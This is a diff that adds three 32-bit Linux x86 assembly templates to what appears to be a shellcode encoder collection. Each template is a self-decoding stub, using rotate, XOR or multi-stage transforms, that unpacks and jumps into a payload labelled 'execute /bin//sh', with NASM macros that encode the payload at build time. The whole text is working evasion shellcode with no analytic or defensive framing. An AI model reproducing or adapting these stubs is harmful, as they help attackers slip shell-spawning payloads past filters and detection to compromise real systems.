@@ -351,3 +351,71 @@ next:	lodsw
 	ret
 down:	call up
 	WORDS (((c + (i + 1)) & 0xffff) >> 5) | (((c + (i + 1)) & 0x1f) << 11)
+
+;= two_passes_apart 32 | linux x86 | execute /bin//sh
+	jmp short down
+up:	pop esi
+	push esi
+	push byte LENGTH
+	pop ecx
+	push ecx
+first:	ror byte [esi + ecx - 1], 3
+	loop first
+	pop ecx
+second:	xor byte [esi + ecx - 1], 0x61
+	loop second
+	ret
+down:	call up
+	ENCODE (((c ^ 0x61) << 3) | ((c ^ 0x61) >> 5))
+
+;= table_of_offsets 32 | linux x86 | execute /bin//sh
+	call here
+here:	pop ebx
+	lea esi, [ebx + table - here]
+	lea edi, [ebx + payload - here]
+	xor ecx, ecx
+	xor eax, eax
+next:	lodsb
+	test al, al
+	jz done
+	add edi, eax
+	xor byte [edi - 1], 0xff
+	jmp next
+done:	jmp short payload
+table:	times LENGTH db 1
+	db 0
+payload: ENCODE ~c
+
+;= stages_of_three 32 | linux x86 | execute /bin//sh
+	jmp short down
+up:	pop esi
+	mov edi, esi
+	mov ebx, 3
+stage:	push byte LENGTH / 4
+	pop ecx
+	push esi
+next:	lodsd
+	ror eax, 5
+	sub eax, ebx
+	xor eax, 0x13572468
+	stosd
+	loop next
+	pop esi
+	mov edi, esi
+	dec ebx
+	jnz stage
+	jmp esi
+down:	call up
+%assign j 0
+%rep LENGTH / 4
+DOUBLE j
+%assign key 1
+%rep 3
+%assign c c ^ 0x13572468
+%assign c (c + key) & 0xffffffff
+%assign c ((c << 5) | (c >> 27)) & 0xffffffff
+%assign key key + 1
+%endrep
+	dd c
+%assign j j + 1
+%endrep
